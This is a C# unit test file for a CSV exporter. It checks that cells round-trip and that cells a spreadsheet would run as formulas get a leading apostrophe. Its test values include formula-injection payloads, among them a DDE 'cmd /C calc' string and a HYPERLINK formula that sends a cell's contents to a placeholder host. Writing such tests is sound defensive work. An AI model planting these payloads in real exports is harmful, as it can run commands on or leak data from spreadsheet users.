using System.IO;
using System.Linq;
using System.Text;
using FsCheck.Xunit;
using KazChina.Model.Cli;
using Xunit;

namespace KazChina.Model.Tests.Cli;

public class CsvExportTests
{
    [Property(Arbitrary = [typeof(Generators)], MaxTest = 30)]
    public void Write_AnyEdition_ReadsBackAsTheSameTables(KazChinaEdition edition)
    {
        foreach ((string _, FlatTable table) in CsvExport.Tables(edition))
        {
            Assert.Equal(table, CsvTables.Read(table.Name, Write(table, byteOrderMark: true, rawCells: true)));
        }
    }

    [Fact]
    public void Write_RawCellsWithSeparatorsQuotesLineBreaksAndSpaces_ReadBackUnchanged()
    {
        string[] cells = ["a,b", "say \"hi\"", "two\r\nlines", "lf\nonly", " padded ", "", "=1+1", "Kazakhstan’s … 136.14", "-5"];
        var table = new FlatTable(
            "tricky",
            cells.Select((_, i) => "c" + i).ToValueList(),
            ValueList.Create(cells.ToValueList(), cells.Reverse().ToValueList()));

        Assert.Equal(table, CsvTables.Read("tricky", Write(table, byteOrderMark: false, rawCells: true)));
    }

    [Theory]
    [InlineData("=1+1")]
    [InlineData("=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")")]
    [InlineData("+1")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("-")]
    [InlineData("@SUM(A1:A9)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("\uFF1D1+1")]
    [InlineData("-1.")]
    [InlineData("-.5")]
    [InlineData("-1e5")]
    public void Write_CellASpreadsheetWouldRun_GetsALeadingApostrophe(string cell)
    {
        FlatTable table = WithCell(cell);

        FlatTable read = CsvTables.Read("cells", Write(table, byteOrderMark: true, rawCells: false));

        Assert.Equal(["'" + cell, "plain"], read.Rows.Select(r => r[0]));
    }

    [Theory]
    [InlineData("-12.5")]
    [InlineData("-3")]
    [InlineData("0")]
    [InlineData("136.14")]
    [InlineData("x=1")]
    [InlineData("a-b")]
    [InlineData(" =1")]
    [InlineData("")]
    public void Write_NumberOrTextThatCannotRun_IsWrittenAsItIs(string cell)
    {
        FlatTable table = WithCell(cell);

        FlatTable read = CsvTables.Read("cells", Write(table, byteOrderMark: true, rawCells: false));

        Assert.Equal(table, read);
    }

    [Fact]
    public void ExportCsv_EditionWithAFormulaTitle_NeutralisesItUnlessRawCellsAreAsked()
    {
        const string Formula = "=HYPERLINK(\"http://example.invalid\",\"Open\")";
        using var folder = new TemporaryFolder();
        string path = EditionFiles.Write(folder, "edited.json", HostileText.EditionWithAgreementTitle(Formula));

        CliResult files = CliRun.Run("export", "--format", "csv", "--edition", path, "--out", folder["tables"]);
        CliResult raw = CliRun.Run("export", "--format", "csv", "--edition", path, "--raw-cells");

        Assert.Equal(ExitCodes.Success, files.ExitCode);
        FlatTable agreements = CsvTables.Read("agreements", File.ReadAllBytes(Path.Combine(folder["tables"], "agreements.csv")));
        Assert.Contains("'" + Formula, Enumerable.Range(0, agreements.Rows.Count).Select(row => agreements.Cell(row, "title")));
        Assert.Equal(ExitCodes.Success, raw.ExitCode);
        Assert.Equal(HostileText.EditionWithAgreementTitle(Formula).ToFactsTable(), CsvTables.Read("facts", Encoding.UTF8.GetBytes(raw.Output)));
    }

    /// <summary>A table with the cell in its first column; two columns, as every export has, so the reader's delimiter detection settles on the comma.</summary>
    private static FlatTable WithCell(string cell) =>
        new("cells", ValueList.Create("value", "id"), ValueList.Create(ValueList.Create(cell, "a"), ValueList.Create("plain", "b")));

    [Fact]
    public void Tables_CurrentEdition_AreTheKindTablesThenFacts()
    {
        KazChinaEdition edition = KazChinaEdition.Current;

        var tables = CsvExport.Tables(edition);

        Assert.Equal([.. edition.ToTables(), edition.ToFactsTable()], tables.Select(t => t.Table));
        Assert.All(tables, t => Assert.Equal(t.Table.Name + ".csv", t.FileName));
    }

    private static byte[] Write(FlatTable table, bool byteOrderMark, bool rawCells)
    {
        using var stream = new MemoryStream();
        CsvExport.Write(table, stream, byteOrderMark, rawCells);
        return stream.ToArray();
    }
}
